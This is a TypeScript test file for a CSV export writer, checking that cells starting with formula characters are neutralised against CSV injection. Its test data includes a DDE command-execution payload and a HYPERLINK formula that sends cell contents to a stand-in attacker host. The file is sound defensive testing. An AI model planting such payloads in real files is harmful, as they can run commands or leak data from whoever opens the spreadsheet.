import { describe, expect, it } from '@jest/globals';
import { parseCsv } from '../../../../test/support/export-files.js';
import { csvField, csvLine, EXPORT_COLUMNS, type ExportRecord } from './export-writers.js';

const record = (fields: Partial<ExportRecord>): ExportRecord => ({
  position: '7', stream_id: 'game-1', revision: '0', event_type: 'GameCreated', at: '2026-12-02T10:00:00.000Z', actor_id: 'user-1', actor_kind: 'user',
  model: null, correlation_id: null, causation_id: null, event_id: 'e1', data: '{"a":1}', metadata: '{}', ...fields,
});

/** What a spreadsheet would show in each column of the line: the text after CSV unquoting. */
const cells = (line: string): Record<string, string> => Object.fromEntries(parseCsv(line)[0].map((v, i) => [EXPORT_COLUMNS[i], v]));

describe('CSV cells (OWASP CSV injection)', () => {
  it.each([
    ["=cmd|' /C calc'!A0"],
    ['@SUM(1+1)'],
    ['+1'],
    ['-1+1'],
    ['\t=1'],
    ['\r=1'],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ])('neutralises %j: a leading single quote, and the cell quoted', (payload) => {
    const field = csvField(payload);
    expect(field.startsWith(`"'`)).toBe(true);
    expect(field.endsWith('"')).toBe(true);
    // Read back as a spreadsheet would: the payload behind a quote, so it is text, never a formula.
    const line = csvLine(record({ actor_id: payload, stream_id: payload, correlation_id: payload }));
    const read = cells(line);
    expect([read.actor_id, read.stream_id, read.correlation_id]).toEqual([`'${payload}`, `'${payload}`, `'${payload}`]);
  });

  it('leaves cells that start with anything else as RFC 4180 has them', () => {
    expect(csvField('game-1')).toBe('game-1');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('{"a":"=1"}')).toBe('"{""a"":""=1""}"');
    expect(csvField('x,y')).toBe('"x,y"');
    expect(csvField(null)).toBe('');
  });

  it('neutralises JSON text that starts a formula (an event whose data is a negative number)', () => {
    expect(cells(csvLine(record({ data: '-5' }))).data).toBe("'-5");
  });

  it('writes the number columns as numbers: position and revision are never quoted', () => {
    const line = csvLine(record({ position: '12345678901234567', revision: '3' }));
    expect(line.startsWith('12345678901234567,game-1,3,')).toBe(true);
    expect(csvField('-1', 'number')).toBe('-1');
    expect(csvField('-1')).toBe(`"'-1"`);
  });
});
